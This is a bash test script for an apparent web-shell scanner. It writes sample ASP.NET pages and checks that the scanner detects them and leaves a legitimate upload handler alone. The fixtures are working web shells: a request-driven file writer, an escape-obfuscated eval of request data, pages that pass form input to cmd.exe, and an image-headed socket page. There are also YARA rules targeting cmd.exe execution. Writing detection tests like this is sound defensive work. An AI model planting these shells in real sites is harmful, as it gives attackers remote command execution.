#!/usr/bin/env bash
# The normalised view and the capability model end to end, on pages written
# for this test: a shell only the capability model sees, a shell only the
# view shows the built-in rules, a user rule that asks for the view (and one
# that does not), an image-headed page, and an upload handler that must stay
# quiet.  Evidence offsets and lines point into the original files.
. "$(dirname "$0")/tap.sh"
export XDG_CACHE_HOME="$TMP/cache"
R="$TMP/site"
mkdir -p "$R/app"

# a file writer driven by two text boxes: no built-in YARA rule names it
cat >"$R/app/notes.aspx" <<'P'
<%@ Page Language="C#" %>
<script runat="server">
void Save(object sender, EventArgs e)
{
    System.IO.FileInfo target = new System.IO.FileInfo(PathBox.Text);
    System.IO.StreamWriter w = target.CreateText();
    w.Write(BodyBox.Text);
    w.Close();
}
</script>
<form runat="server">
<asp:TextBox id="PathBox" runat="server"/><asp:TextBox id="BodyBox" runat="server" TextMode="MultiLine"/>
<asp:Button runat="server" OnClick="Save" Text="ok"/>
</form>
P
# eval spelt with \u escapes: the raw bytes hold no "eval("
printf '%s\n' '<%@ Page Language="Jscript"%>' \
	'<% \u0065\u0076\u0061\u006c(Request.Item["z"], "unsafe"); %>' >"$R/app/esc.aspx"
# VB, upper case, spaces and a line continuation around Process.Start
cat >"$R/app/vb.aspx" <<'P'
<%@ Page Language="VB" %>
<script runat="server">
Sub Page_Load()
    Dim a As String = REQUEST . FORM ( "c" )
    SYSTEM.DIAGNOSTICS.PROCESS.START("cmd.exe", _
        "/c " & a)
End Sub
</script>
P
# an image header in front of a page
{
	printf 'GIF89a'
	printf '%s\n' '<%@ Page Language="C#" %><% string c = Request["c"];' \
		'var s = new System.Net.Sockets.TcpClient(c, 445); %>'
} >"$R/app/logo.aspx"
# a legitimate upload handler: fixed folder, extension list, generated name
cat >"$R/app/upload.ashx" <<'P'
<%@ WebHandler Language="C#" Class="Upload" %>
using System; using System.IO; using System.Web;
public class Upload : IHttpHandler {
    public void ProcessRequest(HttpContext ctx) {
        HttpPostedFile f = ctx.Request.Files["file"];
        string kind = ctx.Request.QueryString["kind"];
        if (Array.IndexOf("image,media".Split(','), kind) == -1) return;
        string ext = Path.GetExtension(f.FileName).ToLower();
        string dir = ctx.Server.MapPath("~/uploads/" + kind + "/");
        f.SaveAs(dir + Guid.NewGuid().ToString("N") + ext);
    }
    public bool IsReusable { get { return false; } }
}
P
mkdir -p "$TMP/rules"
cat >"$TMP/rules/view.yar" <<'P'
rule user_view_rule
{
	meta:
		exscan_view = true
		score = 80
	strings:
		$a = "process.start(\"cmd.exe\",\"/c \"&a)"
	condition:
		$a
}
rule user_raw_rule
{
	meta:
		score = 80
	strings:
		$a = "process.start(\"cmd.exe\",\"/c \"&a)"
	condition:
		$a
}
P

run "$EXSCAN" walk --format json --fail-on never "$R"
expect_rc 0 "walk runs"
cp "$TMP/out" "$TMP/walk.json"
json_check "the file writer is found by the capability model, with both lines" \
	'any(f["path"] == "app/notes.aspx" and f["rule"] == "exs_cap_file_write" and f["score"] >= 60 and "line 6" in f["description"] and "reaches file write" in f["description"] for f in d["hosts"][0]["findings"])'
python3 - "$TMP/walk.json" "$R/app/notes.aspx" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
raw = open(sys.argv[2], "rb").read()
f = [f for f in d["hosts"][0]["findings"] if f["path"] == "app/notes.aspx" and f["rule"].startswith("exs_cap")][0]
m = {x["identifier"]: x for x in f["matches"]}
ok = raw[m["sink"]["offset"]:].startswith(b".CreateText()") and raw[m["source"]["offset"]:].startswith(b"PathBox.Text")
sys.exit(0 if ok else 1)
PY
tap_ok $? "capability evidence offsets point at the sink and the source in the file"
python3 - "$TMP/walk.json" "$R/app/esc.aspx" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
raw = open(sys.argv[2], "rb").read()
f = [f for f in d["hosts"][0]["findings"] if f["path"] == "app/esc.aspx" and f["rule"] == "exs_chopper_eval_request"]
sys.exit(0 if f and "normalised" in f[0]["description"] and f[0]["matches"][0]["offset"] == raw.find(b"\\u0065") else 1)
PY
tap_ok $? "a built-in rule matches the view of the escaped eval, at the original offset"
json_check "the VB command shell is found" \
	'any(f["path"] == "app/vb.aspx" and f["rule"] == "exs_cap_process" and "line 5" in f["description"] for f in d["hosts"][0]["findings"])'
json_check "the image-headed page is read as a page" \
	'any(f["path"] == "app/logo.aspx" and f["rule"] == "exs_cap_socket" for f in d["hosts"][0]["findings"])'
json_check "the upload handler stays quiet" \
	'not any(f["path"] == "app/upload.ashx" and f["kind"] == "webshell" for f in d["hosts"][0]["findings"])'

run "$EXSCAN" walk --format json --fail-on never --rules "$TMP/rules/view.yar" "$R"
json_check "a user rule with exscan_view = true matches the view" \
	'any(f["path"] == "app/vb.aspx" and f["rule"] == "user_view_rule" for f in d["hosts"][0]["findings"])'
json_check "a user rule without it sees only the raw bytes" \
	'not any(f["rule"] == "user_raw_rule" for f in d["hosts"][0]["findings"])'

run "$EXSCAN" walk --fail-on never "$R"
grep -q 'request data (pathbox.text, line 5) reaches file write' "$TMP/out"
tap_ok $? "the text report says which request data reaches which sink" "$(head -c 3000 "$TMP/out")"
# --- C# that is not web-facing: capabilities present, but no request, page or
# handler; and a handler that only has them present (an App_Code backdoor)
mkdir -p "$TMP/cs"
cat >"$TMP/cs/Tool.Process.cs" <<'P'
using System;
using System.Diagnostics;
namespace Tool {
    public static class Runner {
        public static int Run(string exe, string args) {
            var psi = new ProcessStartInfo("cmd.exe", "/c " + exe + " " + args);
            psi.RedirectStandardOutput = true;
            using (var p = Process.Start(psi)) { p.WaitForExit(); return p.ExitCode; }
        }
    }
}
P
cat >"$TMP/cs/Helper.cs" <<'P'
using System;
using System.Web;
public class Helper : IHttpHandler {
    public bool IsReusable { get { return true; } }
    public void ProcessRequest(HttpContext ctx) {
        System.Diagnostics.Process.Start("cmd.exe", "/c whoami > c:\\inetpub\\wwwroot\\w.txt");
    }
}
P
run "$EXSCAN" walk --all-files --format json --fail-on never "$TMP/cs"
json_check "C# that starts processes but faces no web request is not a shell" \
	'not any(f["path"] == "Tool.Process.cs" and f["kind"] == "webshell" for f in d["hosts"][0]["findings"])'
json_check "a handler that starts cmd.exe is reported though no request data reaches it" \
	'any(f["path"] == "Helper.cs" and f["rule"] == "exs_cap_process" for f in d["hosts"][0]["findings"])'

tap_done
